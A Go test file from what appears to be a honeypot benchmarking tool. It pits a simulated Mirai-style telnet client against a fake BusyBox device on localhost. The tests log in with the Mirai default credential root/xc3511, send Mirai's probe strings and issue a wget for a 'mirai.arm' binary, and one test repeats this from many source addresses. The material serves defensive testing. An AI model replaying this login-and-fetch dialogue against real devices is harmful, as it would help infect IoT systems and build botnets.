package main

import (
	"bufio"
	"context"
	"net"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/honeygate/honeygate/bench/internal/loadgen"
)

// fakeDevice is a minimal BusyBox-like telnetd for testing the client alone.
func fakeDevice(t *testing.T) (addr string, urls chan string) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	urls = make(chan string, 16)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				// Opening negotiation, split across writes on purpose.
				c.Write([]byte{tIAC, tDO, 1, tIAC, tDO})
				time.Sleep(5 * time.Millisecond)
				c.Write([]byte{oNAWS, tIAC, tWILL, 1, tIAC, tWILL, 3})
				c.Write([]byte("\r\nLocalHost login: "))
				r := bufio.NewReader(c)
				readLine := func() string {
					var b []byte
					for {
						x, err := r.ReadByte()
						if err != nil {
							return ""
						}
						if x == tIAC {
							v, _ := r.ReadByte()
							if v == tSB {
								for {
									y, _ := r.ReadByte()
									if y == tIAC {
										r.ReadByte()
										break
									}
								}
							} else {
								r.ReadByte()
							}
							continue
						}
						if x == '\n' {
							return strings.TrimRight(string(b), "\r")
						}
						b = append(b, x)
					}
				}
				if readLine() != "root" {
					return
				}
				c.Write([]byte("Password: "))
				if readLine() != "xc3511" {
					return
				}
				c.Write([]byte("\r\n\r\nBusyBox v1.20.2 built-in shell (ash)\r\n\r\n~ # "))
				for {
					l := readLine()
					c.Write([]byte(l + "\r\n"))
					switch {
					case l == "exit":
						return
					case strings.Contains(l, "nippon"):
						c.Write([]byte("kami\r\n"))
					case strings.Contains(l, "wget"):
						urls <- strings.Fields(l)[2]
						c.Write([]byte("ECCHI: applet not found\r\n"))
					case strings.Contains(l, "ECCHI"):
						c.Write([]byte("ECCHI: applet not found\r\n"))
					case l == "":
						return
					default:
						c.Write([]byte("-sh: " + l + ": not found\r\n"))
					}
					c.Write([]byte("~ # "))
				}
			}()
		}
	}()
	return ln.Addr().String(), urls
}

func TestMiraiDialogue(t *testing.T) {
	addr, urls := fakeDevice(t)
	tc, err := dialTelnet(context.Background(), &net.TCPAddr{IP: net.IPv4(127, 0, 0, 7)}, addr, 5*time.Second, time.Now().Add(time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	defer tc.Close()
	if got := tc.conn.LocalAddr().(*net.TCPAddr).IP.String(); got != "127.0.0.7" {
		t.Errorf("source %s", got)
	}
	if err := tc.login("root", "xc3511"); err != nil {
		t.Fatal(err)
	}
	if err := tc.miraiSession("http://127.0.0.1:9/bins/x-1/mirai.arm"); err != nil {
		t.Fatal(err)
	}
	if u := <-urls; u != "http://127.0.0.1:9/bins/x-1/mirai.arm" {
		t.Errorf("url %q", u)
	}
}

// TestClientScale checks the client side alone: many sessions from spread
// source addresses against the fake device. Set TELNETLOAD_SCALE=N to run.
func TestClientScale(t *testing.T) {
	n := 0
	if v := os.Getenv("TELNETLOAD_SCALE"); v != "" {
		n, _ = strconv.Atoi(v)
	}
	if n == 0 {
		t.Skip("TELNETLOAD_SCALE not set")
	}
	loadgen.RaiseNoFile()
	addr, urls := fakeDevice(t)
	var seen atomic.Int64
	go func() {
		for range urls {
			seen.Add(1)
		}
	}()
	srcs := loadgen.Sources(249)
	var fails atomic.Int64
	start := time.Now()
	loadgen.Each(context.Background(), n, 500, func(i int) {
		tc, err := dialTelnet(context.Background(), srcs[i%len(srcs)], addr, 10*time.Second, time.Now().Add(time.Minute))
		if err == nil {
			if err = tc.login("root", "xc3511"); err == nil {
				err = tc.miraiSession("http://127.0.0.1:9/bins/x/mirai.arm")
			}
			tc.Close()
		}
		if err != nil {
			fails.Add(1)
			t.Log(errorClass(err))
		}
	})
	t.Logf("%d sessions, %d failed, %.0f/s", n, fails.Load(), float64(n)/time.Since(start).Seconds())
	if fails.Load() != 0 {
		t.Errorf("%d of %d client sessions failed", fails.Load(), n)
	}
	// The fake device reports each download URL once the session is done.
	deadline := time.Now().Add(10 * time.Second)
	for seen.Load() < int64(n) && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if got := seen.Load(); got != int64(n) {
		t.Errorf("the device saw %d download URLs from %d sessions", got, n)
	}
}
